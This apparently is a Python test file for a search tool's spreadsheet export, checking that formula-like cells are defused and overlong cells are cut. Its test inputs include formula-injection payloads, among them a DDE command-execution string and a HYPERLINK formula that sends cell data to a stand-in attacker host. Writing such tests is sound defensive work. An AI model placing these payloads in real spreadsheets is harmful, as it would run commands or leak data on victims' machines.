"""No cell begins a formula, in whatever way a spreadsheet cuts the file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from support.engines import url_in
from support.helped import indexed, made

from index.cli import main
from search.results.spreadsheet import LONGEST_CELL, defuse, text_cell

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\ufeff=1",
    "\u200b \u202e=1",
    "\u3000=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1)',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    assert defuse(formula) == "'" + formula.replace("\n=", "\n'=").replace(
        "\t=", "\t'="
    ).replace("\r=", "\r'=")


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("cut", [";", "\t", "\n", "\r\n"])
def test_a_formula_behind_a_place_where_others_cut_becomes_text(
    formula: str, cut: str
) -> None:
    _, cell = defuse(f"a{cut}{formula}").split(cut, 1)
    assert cell.lstrip("\t\r\n").startswith("'")


@pytest.mark.parametrize(
    "text", ["", "a-b", "2 + 2 = 4", "a@b.example", "'=1", "it; is", "–1 °C", "é=1"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert defuse(text) == text


@pytest.mark.parametrize(
    "text",
    [
        *("0", "007", "12345678901234567890", "87219094668646e3", "1E5", "1e-3"),
        *("1.5", ".5", "1,000", "1 000", "1'000", "3/4", "9/11", "1-2", "2019-05-01"),
        *("12:30", "5%", "$5", "€ 5", "5 €", "(5)", "1:30 pm", "May 1", "1 May 2019"),
        *("1-Mar", "Sept. 5", "mar-05", "TRUE", "false", " 12 "),
    ],
)
def test_text_that_looks_like_a_number_a_date_or_a_truth_value_stays_text(
    text: str,
) -> None:
    assert text_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        *("", "a001", "e3", "3a5f", "12 dead in fire", "May", "March on Rome", "G20"),
        *("9/11 attacks", "truely", "8721-9094x", "https://example.org/1"),
    ],
)
def test_text_that_no_spreadsheet_converts_stays_as_it_is(text: str) -> None:
    assert text_cell(text) == text


def test_a_cell_longer_than_a_spreadsheet_takes_is_cut_and_says_so() -> None:
    assert text_cell("x" * LONGEST_CELL) == "x" * LONGEST_CELL
    for long in ("x" * (LONGEST_CELL + 1), "-" + "y" * LONGEST_CELL, "😀" * 20_000):
        cell = text_cell(long)
        assert len(cell.encode("utf-16-le")) <= 2 * LONGEST_CELL
        assert cell.endswith(" … [cut: a cell of a spreadsheet is full]")
        assert len(cell.encode("utf-16-le")) > 2 * LONGEST_CELL - 8


def test_the_answers_to_a_list_of_queries_are_no_formulas(tmp_path: Path) -> None:
    url = url_in("tantivy", tmp_path / "index")
    indexed(url, [made(1, "=1+1 harbour")]).close()
    queries = tmp_path / "queries.csv"
    queries.write_text('query\n"-harbour +harbour"\nharbour\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["--engine", str(url), "batch", str(queries)])
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][:2] == ["'-harbour +harbour", "0"]
    assert rows[2][:4] == ["harbour", "1", "a001", "'=1+1 harbour"]
